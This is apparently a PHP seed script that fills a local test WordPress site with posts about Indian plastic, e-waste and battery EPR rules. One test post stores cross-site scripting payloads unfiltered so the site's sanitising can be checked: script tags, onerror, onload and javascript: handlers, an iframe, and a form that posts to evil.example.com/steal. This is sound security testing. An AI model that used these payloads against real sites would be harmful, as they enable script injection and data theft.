<?php
/**
 * Replaces the posts of the local test WordPress with a known set: 13 published posts over
 * three pages of five, four categories, three sticky posts, featured images, a draft, titles
 * with entities and Tamil text, and a post whose HTML tries to run script.
 * Re-running it gives the same content (ids change).
 *
 *   php scripts/wordpress/seed.php
 */
$_SERVER['WORDPRESS_CONFIG'] = 'nirmal-earth';
$_SERVER['HTTP_HOST'] = '127.0.0.1';
$_SERVER['REQUEST_URI'] = '/';

require '/usr/share/wordpress/wp-load.php';
require_once ABSPATH . 'wp-admin/includes/image.php';
require_once ABSPATH . 'wp-admin/includes/post.php';

// An administrator may publish any HTML; the website must neutralise it, so store it unfiltered.
kses_remove_filters();
// The seed must not notify a website that is not running.
remove_all_actions('shutdown');

foreach (get_posts(['post_type' => ['post', 'attachment'], 'post_status' => 'any', 'numberposts' => -1]) as $old) {
    wp_delete_post($old->ID, true);
}
foreach (get_terms(['taxonomy' => 'category', 'hide_empty' => false]) as $term) {
    if ((int) $term->term_id !== (int) get_option('default_category')) {
        wp_delete_term($term->term_id, 'category');
    }
}
update_option('sticky_posts', []);

$categories = [];
foreach (['EPR Compliance', 'Plastic Waste', 'E-Waste & Batteries', 'Waste Pickup'] as $name) {
    $categories[$name] = (int) wp_insert_term($name, 'category')['term_id'];
}

/** Draws a simple 1200x630 PNG so every post can have a featured image. */
function seed_image(string $name, array $rgb): int
{
    $img = imagecreatetruecolor(1200, 630);
    imagefill($img, 0, 0, imagecolorallocate($img, ...$rgb));
    $light = imagecolorallocatealpha($img, 255, 255, 255, 90);
    imagefilledellipse($img, 900, 200, 700, 700, $light);
    imagefilledrectangle($img, 80, 420, 700, 470, $light);
    ob_start();
    imagepng($img);
    $bits = wp_upload_bits($name . '.png', null, ob_get_clean());
    $id = wp_insert_attachment(['post_mime_type' => 'image/png', 'post_title' => $name, 'post_status' => 'inherit'], $bits['file']);
    wp_update_attachment_metadata($id, wp_generate_attachment_metadata($id, $bits['file']));
    update_post_meta($id, '_wp_attachment_image_alt', 'Illustration for ' . str_replace('-', ' ', $name));
    return $id;
}

$images = [
    seed_image('green-fields', [11, 110, 66]),
    seed_image('amber-sky', [244, 165, 17]),
    seed_image('deep-forest', [12, 71, 47]),
    seed_image('river-blue', [36, 110, 160]),
];
$home = home_url('/');
$figure = wp_get_attachment_url($images[1]);

$body = static fn(string $topic) => "<p>This article explains {$topic} for producers and waste generators in south India.</p>\n<h2>What the rules require</h2>\n<p>Obligations depend on the waste stream and on the quantity placed on the market.</p>\n<ul><li>Register on the CPCB portal.</li><li>Meet annual targets.</li><li>File returns on time.</li></ul>";

$posts = [
    ['Plastic & E-Waste EPR: What\'s Changed in 2026', 'EPR Compliance', true, $body('the 2026 changes')
        . "\n<h3>A comparison</h3>\n<table><thead><tr><th>Stream</th><th>Obligated party</th></tr></thead><tbody><tr><td>Plastic packaging</td><td>PIBO</td></tr><tr><td>E-waste</td><td>Producer</td></tr></tbody></table>"
        . "\n<blockquote><p>The legal obligation stays with the producer.</p></blockquote>"
        . "\n<figure class=\"wp-block-image\"><img src=\"{$figure}\" alt=\"Sorted plastic bales\" width=\"1200\" height=\"630\" /><figcaption>Bales waiting for a registered processor.</figcaption></figure>"
        . "\n<p>Read our <a href=\"{$home}battery-epr-for-ev-makers/\">battery EPR guide</a> and the <a href=\"https://cpcb.nic.in/\">CPCB site</a>.</p>"
        . "\n<pre><code>EPR target = quantity placed on market × target %</code></pre>"
        . "\n<iframe src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ\" width=\"560\" height=\"315\" title=\"EPR explained\"></iframe>"],
    ['Battery EPR for EV Makers', 'E-Waste & Batteries', true, $body('battery EPR')],
    ['A Guide to Bulk Waste Generator Rules', 'Waste Pickup', true, $body('bulk waste generator duties')],
    ['கழிவு பிரித்தல்: வீட்டில் நான்கு வகை', 'Waste Pickup', false, '<p>வீட்டில் ஈரக் கழிவு, உலர் கழிவு, சுகாதாரக் கழிவு, சிறப்பு கவனம் தேவைப்படும் கழிவு என நான்காகப் பிரிக்கவும்.</p>'],
    ['Formatting Test: Embedded Content', 'EPR Compliance', false,
        "<p>Safe paragraph before the embedded content.</p>\n<script>window.__wpXss = 'script';alert('script')</script>"
        . "\n<p><img src=\"x\" onerror=\"window.__wpXss='onerror';alert('onerror')\" alt=\"broken\"></p>"
        . "\n<p><a href=\"javascript:alert('link')\">Click for details</a></p>"
        . "\n<svg onload=\"alert('svg')\"><circle r=\"10\"></circle></svg>"
        . "\n<iframe src=\"https://evil.example.com/frame\" title=\"untrusted\"></iframe>"
        . "\n<form action=\"https://evil.example.com/steal\"><input name=\"q\"><button>Send</button></form>"
        . "\n<p style=\"color:red\" onclick=\"alert('click')\">Styled paragraph after the embedded content.</p>"],
    ['E-Waste Targets for Producers', 'E-Waste & Batteries', false, $body('e-waste targets')],
    ['Plastic Packaging Categories Explained', 'Plastic Waste', false, $body('plastic packaging categories')],
    ['Choosing a Registered Recycler', 'E-Waste & Batteries', false, $body('how to choose a recycler')],
    ['How Industrial Pickup Works', 'Waste Pickup', false, $body('industrial pickup')],
    ['Filing Your Annual Return', 'EPR Compliance', false, $body('annual returns')],
    ['Recycled Content Obligations', 'Plastic Waste', false, $body('recycled content')],
    ['Four-Stream Segregation at Source', 'Waste Pickup', false, $body('segregation at source')],
    ['Environmental Compensation Basics', 'EPR Compliance', false, $body('environmental compensation')],
];

$date = strtotime('2026-03-20 10:00:00');
foreach ($posts as $i => [$title, $category, $sticky, $content]) {
    $id = wp_insert_post([
        'post_title' => $title,
        'post_content' => $content,
        'post_excerpt' => $i === 0 ? 'What changed for plastic & e-waste producers &mdash; and what didn\'t.' : '',
        'post_status' => 'publish',
        'post_author' => 1,
        'post_date' => date('Y-m-d H:i:s', $date - $i * 86400 * 3),
        'post_category' => [$categories[$category]],
    ], true);
    if (is_wp_error($id)) {
        fwrite(STDERR, $id->get_error_message() . "\n");
        exit(1);
    }
    set_post_thumbnail($id, $images[$i % count($images)]);
    if ($sticky) {
        stick_post($id);
    }
}

wp_insert_post([
    'post_title' => 'Draft: Certificate Price Forecast',
    'post_name' => 'draft-certificate-price-forecast',
    'post_content' => '<p>Not ready for readers.</p>',
    'post_status' => 'draft',
    'post_category' => [$categories['EPR Compliance']],
]);

echo 'Seeded ' . count($posts) . " published posts and 1 draft\n";
